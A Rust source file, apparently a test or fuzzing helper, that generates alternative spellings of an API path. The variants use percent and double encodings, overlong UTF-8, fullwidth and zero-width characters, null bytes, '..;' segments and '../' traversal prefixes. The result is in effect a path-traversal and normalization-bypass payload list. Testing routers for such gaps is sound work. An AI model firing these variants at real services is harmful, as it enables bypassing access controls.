//! Ways to write a path. To one reader or another each of them may mean the path itself.

/// What is put before, behind and between segments.
const BITS: &[&str] = &[
    ".",
    "..",
    "...",
    ".json",
    ".JSON",
    ".tar.gz",
    ".%20",
    "%2ejson",
    "%2Ejson",
    "%20",
    "%20%20",
    "+",
    "%09",
    "%0a",
    "%0d%0a",
    "%00",
    "%00.png",
    "%7f",
    "%85",
    "%a0",
    "%C2%A0",
    "%C2%85",
    "%E2%80%8B",
    "%E3%80%80",
    "%EF%BB%BF",
    "%C2%AD",
    ";",
    ";a=b",
    ";/a",
    "%3B",
    "%3Ba=b",
    "?",
    "?a=b",
    "?/../x",
    "%3F",
    "%3Fa=b",
    "%3F/x",
    "#",
    "#x",
    "#/../x",
    "%23",
    "%23x",
    "/",
    "//",
    "/.",
    "/./",
    "/%2e",
    "/x/..",
    "/x/../",
    "/x/%2e%2e",
    "/x/%2E.",
    "/x/%252e%252e",
    "/x/..;",
    "/x/..;a=b",
    "/x/..%3B",
    "/x/..%20",
    "/x/..+",
    "/x/...",
    "/x/..%00",
    "/x/..%C2%A0",
    "/%20",
    "/%3B",
    "/%E2%80%8B",
    "%2F",
    "%2f",
    "%2F%2F",
    "%252F",
    "%5C",
    "%5c",
    "%255c",
    "\\",
    "%c0%af",
    "%c0%ae",
    "%e0%80%af",
    "%f0%80%80%af",
    "%c1%9c",
    "%EF%BC%8F",
    "%EF%BC%8E",
    "%E2%88%95",
    "%u002f",
    "%u002e",
    "%",
    "%2",
    "%zz",
    "%25",
    "~",
    "!",
    "*",
    "'",
    "(x)",
    ":",
    ":x",
    "::$DATA",
    ",",
    ",x",
    "@",
    "@x",
    "&",
    "&x",
    "=",
    "$",
    "|",
    "\"",
    "<",
    ">",
    "^",
    "`",
    "{}",
    "[]",
    "_",
    "-",
];

/// The spellings of a path.
pub fn spellings(path: &str) -> Vec<String> {
    let slash = path.rfind('/').unwrap();
    let (front, last) = (&path[..slash], &path[slash + 1..]);
    let mut all = Vec::new();
    for bit in BITS {
        all.push(format!("{path}{bit}"));
        all.push(format!("{front}/{bit}{last}"));
        all.push(format!("{front}{bit}/{last}"));
        all.push(format!("{front}{bit}{last}"));
        all.push(format!("{path}{bit}.json"));
        all.push(format!("/api/v1/rates{bit}/../{last}"));
    }
    all.extend([
        format!("/{path}"),
        format!("//{path}"),
        format!("/.{path}"),
        format!("/%2e{path}"),
        format!("/x/..{path}"),
        format!("/api/v1/rates/../..{path}"),
        format!("/api/v1/rates/../../..{path}"),
        format!("/api/v1/rates/%2e%2e/%2e%2e/%2e%2e{path}"),
        format!("/api/v1/rates/..%2f..%2f..{path}"),
        format!("/api/v1/rates/..%252f..%252f..{path}"),
        format!("/api/v1/rates/..\\..\\..{path}"),
        format!("/api/v1/rates/..%5c..%5c..{path}"),
        format!("/api/v1/rates/..;/..;/..{path}"),
        format!("/api/v1/rates/%EF%BC%8E%EF%BC%8E/%EF%BC%8E%EF%BC%8E/%EF%BC%8E%EF%BC%8E{path}"),
        format!("/api/v1/rates/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae{path}"),
        format!("/api/v1/rates?/../../..{path}"),
        format!("/api/v1/rates%3F/../../..{path}"),
        format!("/api/v1/rates#/../../..{path}"),
        format!("/api/v1/rates%23/../../..{path}"),
        format!("/api/v1/rates/a%2f..%2f..%2f..%2f..{path}"),
        path.replace('/', "%2f"),
        path.replace('/', "%5c"),
        path.replace('/', "\\"),
        path.replace('/', "//"),
        path.replace('/', "/./"),
        path.to_uppercase(),
        path.replace("/api", "/API"),
        path.replace("v1", "V1"),
        path.replace("v1", "%76%31"),
        path.replace("v1", "v1.json"),
        path.replace("v1", "v1;x"),
        path.replace("v1", "v01"),
        format!("http://api{path}"),
        format!("HTTP://API{path}"),
        format!("https://api{path}"),
        format!("http://api//{path}"),
        format!("http://user:password@api{path}"),
        format!("http://api/api/v1/rates/../../..{path}"),
        format!("http://api:80{path}?x"),
        format!("ftp://api{path}"),
        format!("api{path}"),
        path[1..].to_owned(),
        "*".to_owned(),
    ]);
    // Letters of the last word, written otherwise.
    for (place, letter) in last.char_indices().take(4) {
        let (before, after) = (&last[..place], &last[place + letter.len_utf8()..]);
        let hex = format!("{:02x}", u32::from(letter));
        let wide = char::from_u32(u32::from(letter) + 0xfee0).unwrap();
        let wide: String = wide.to_string().bytes().map(|byte| format!("%{byte:02X}")).collect();
        let overlong = format!("%c1%{:02x}", u32::from(letter) + 0x40);
        let mut others = vec![
            letter.to_uppercase().to_string(),
            format!("%{hex}"),
            format!("%{}", hex.to_uppercase()),
            format!("%25{hex}"),
            format!("%u00{hex}"),
            format!("&#x{hex};"),
            format!("\\x{hex}"),
            format!("%E2%80%8B{letter}"),
            format!("{letter}%CC%81"),
            overlong,
            wide,
        ];
        others.extend(match letter {
            's' => Some("%C5%BF".to_owned()),
            'k' => Some("%E2%84%AA".to_owned()),
            'i' => Some("%C4%B1".to_owned()),
            _ => None,
        });
        all.extend(others.iter().map(|other| format!("{front}/{before}{other}{after}")));
        all.extend(
            others
                .iter()
                .map(|other| format!("{front}/{before}{other}{after}.json")),
        );
    }
    all.sort();
    all.dedup();
    all.retain(|one| one != path);
    all
}
